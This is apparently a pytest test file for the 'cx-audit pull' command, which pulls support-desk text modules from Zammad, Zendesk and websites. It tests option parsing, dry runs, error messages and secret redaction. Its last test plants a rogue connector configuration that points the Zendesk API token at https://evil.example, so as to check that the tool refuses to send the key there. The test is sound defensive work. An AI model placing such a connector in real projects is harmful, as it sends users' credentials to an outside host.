"""``cx-audit pull`` as it is typed, against a vendor on this machine."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from cli_kit import Cli
from pytest_httpserver import HTTPServer

KEY = "the-key-of-the-text-modules"
MODULES = [{"id": 1, "name": "Returns", "content": "<p>30 days</p>", "active": True}]


@pytest.fixture
def zammad(httpserver: HTTPServer, monkeypatch: pytest.MonkeyPatch) -> str:
    """A small Zammad; its address."""
    monkeypatch.setattr("keyring.get_password", lambda *_: None)
    monkeypatch.setenv("ZAMMAD_TOKEN", KEY)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1772366400")
    allowed = {"Authorization": f"Token token={KEY}"}
    for page, body in ((1, MODULES), (2, [])):
        httpserver.expect_request(
            "/api/v1/text_modules", query_string={"per_page": "100", "page": str(page)}, headers=allowed
        ).respond_with_json(body)
    return httpserver.url_for("").rstrip("/")


def test_options_are_enough(cli: Cli, zammad: str) -> None:
    done = cli("pull", "zammad", "--base-url", zammad, "--what", "text_modules", "--into", "out")
    assert (done.code, done.out, done.err) == (0, "out/zammad: text_modules 1\n", "")
    said = json.loads(Path("out/zammad/cx-audit-pull.json").read_text())
    assert said["pulled_at"] == "2026-03-01T12:00:00Z"
    assert cli("sources", "out").out.splitlines()[-1] == "1 answers in 1 files"
    assert KEY not in "".join(file.read_text() for file in Path("out").rglob("*") if file.is_file())


def test_the_configuration_says_what_and_where(cli: Cli, zammad: str) -> None:
    Path("cx-audit.yml").write_text(
        f"pull:\n  - {{vendor: zammad, name: desk, base_url: '{zammad}', what: [text_modules], into: pulled}}\n"
    )
    done = cli("pull")
    assert (done.code, done.out) == (0, "pulled/desk: text_modules 1\n")
    (row,) = Path("pulled/desk/text_modules.jsonl").read_text().splitlines()
    assert json.loads(row)["id"] == "desk-text_modules-1"


def test_dated_keeps_the_older_ones(cli: Cli, zammad: str) -> None:
    asked = ("pull", "zammad", "--base-url", zammad, "--what", "text_modules", "--dated")
    assert cli(*asked).out == "snapshots/2026-03-01/zammad: text_modules 1\n"


def test_a_folder_with_other_things_is_left_alone(cli: Cli, zammad: str) -> None:
    Path("out/zammad").mkdir(parents=True)
    Path("out/zammad/mine.txt").write_text("mine")
    done = cli("pull", "zammad", "--base-url", zammad, "--what", "text_modules", "--into", "out")
    assert done.code == 2
    assert "out/zammad: holds what pull did not write" in done.err
    assert Path("out/zammad/mine.txt").read_text() == "mine"


def test_dry_run_asks_nobody_and_needs_no_key(
    cli: Cli, zammad: str, httpserver: HTTPServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("ZAMMAD_TOKEN")
    done = cli("pull", "zammad", "--base-url", zammad, "--dry-run")
    assert done.code == 0
    assert f"zammad: GET {zammad}/api/v1/text_modules?per_page=100 auth: header (ZAMMAD_TOKEN) (each page)" in done.out
    assert httpserver.log == []
    assert not Path("snapshots").exists()


def test_one_that_fails_does_not_stop_the_others(cli: Cli, zammad: str, httpserver: HTTPServer) -> None:
    entry = f"vendor: zammad, base_url: '{zammad}', what: [text_modules]"
    Path("cx-audit.yml").write_text(
        f"pull:\n  - {{name: broken, {entry}, keys: {{ZAMMAD_TOKEN: NOT_SET_HERE}}}}\n  - {{name: good, {entry}}}\n"
    )
    done = cli("pull")
    assert done.code == 2
    assert "cx-audit: broken: NOT_SET_HERE is not set: it holds a personal access token of Zammad" in done.err
    assert done.out == "snapshots/good: text_modules 1\n"


def test_no_answers_is_an_exit_code_of_its_own(cli: Cli, httpserver: HTTPServer, zammad: str) -> None:
    httpserver.clear_all_handlers()
    httpserver.expect_request("/api/v1/text_modules").respond_with_json([])
    done = cli("pull", "zammad", "--base-url", zammad, "--what", "text_modules")
    assert done.code == 3
    assert "Zammad gave no answers for text_modules (the key must be allowed to see them" in done.err
    assert not Path("snapshots/zammad").exists()


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        ((), "nothing to pull (name a vendor (cx-audit pull --list)"),
        (("zendsk",), "'zendsk' is no vendor and no entry of pull: (did you mean zendesk?)"),
        (("zendesk", "guru", "--account", "a"), "these options are for one source"),
        (("zendesk",), "zendesk needs account: the part before .zendesk.com"),
        (("zendesk", "--set", "user"), "--set user: write NAME=VALUE"),
        (("zendesk", "--set", "api_token=abc"), "--set 'api_token' looks like a key"),
        (("zendesk", "--set", "user=9f86d081884c7d659a2feaa0c55ad015"), "--set 'user' looks like a key"),
        (("zammad", "--base-url", "http://help.example.com"), "is not encrypted"),
        (("zammad", "--base-url", "https://a:b@help.example.com"), "a name or key inside it"),
    ],
)
def test_what_makes_no_sense_is_told(cli: Cli, arguments: tuple[str, ...], message: str) -> None:
    done = cli("pull", *arguments)
    assert done.code == 2
    assert message in done.err
    assert "9f86d081884c7d659a2feaa0c55ad015" not in done.err


def test_the_list_names_every_vendor_and_its_key(cli: Cli) -> None:
    out = cli("pull", "--list").out
    for said in ("zendesk: Zendesk", "key in ZENDESK_API_TOKEN", "needs account", "website: the pages of a sitemap"):
        assert said in out


def test_a_website(cli: Cli, httpserver: HTTPServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("cx_audit.connect.website.INTERVAL", 0)
    httpserver.expect_request("/robots.txt").respond_with_data("", 404)
    page = "<h1>Help</h1><h2>How long?</h2><p>30 days.</p>"
    httpserver.expect_request("/faq").respond_with_data(page, content_type="text/html")
    Path("cx-audit.yml").write_text(
        f"pull:\n  - vendor: website\n    name: shop\n    base_url: '{httpserver.url_for('')}'\n    urls: [/faq]\n"
    )
    assert cli("pull", "shop").out == "snapshots/shop: pages 1\n"


def test_a_connector_that_came_with_the_folder_can_not_send_a_key_away(
    cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It calls itself zendesk, and would like its key."""
    monkeypatch.setenv("ZENDESK_API_TOKEN", KEY)
    Path("ours/connectors").mkdir(parents=True)
    Path("ours/connectors/zendesk.yml").write_text(
        "vendor: zendesk\ntitle: Zendesk\ndocs: https://evil.example\nbase_url: https://evil.example\n"
        "auth: {kind: bearer, token_env: ZENDESK_API_TOKEN}\nkeys: {ZENDESK_API_TOKEN: a token}\n"
        "rights: read\nrenew: ask\n"
        "pulls: {macros: {about: m, channel: macro, steps: [{path: /x, paging: {kind: page, param: page},"
        " records: items}], answer: {id: id, question: q, answer: a}}}\n"
    )
    Path("cx-audit.yml").write_text("rules: [ours]\npull: [{vendor: zendesk}]\n")
    done = cli("pull", "--dry-run")
    assert done.code == 2
    told = done.err.splitlines()
    assert told[0] == "cx-audit: ours/connectors/zendesk.yml stands for the connector zendesk of cx-audit"
    assert told[1].startswith("cx-audit: ours/connectors/zendesk.yml: the key in ZENDESK_API_TOKEN is not sent to evil")
    assert "--trust evil.example" in told[1]
    assert "GET https://evil.example/x" in cli("pull", "--dry-run", "--trust", "evil.example").out
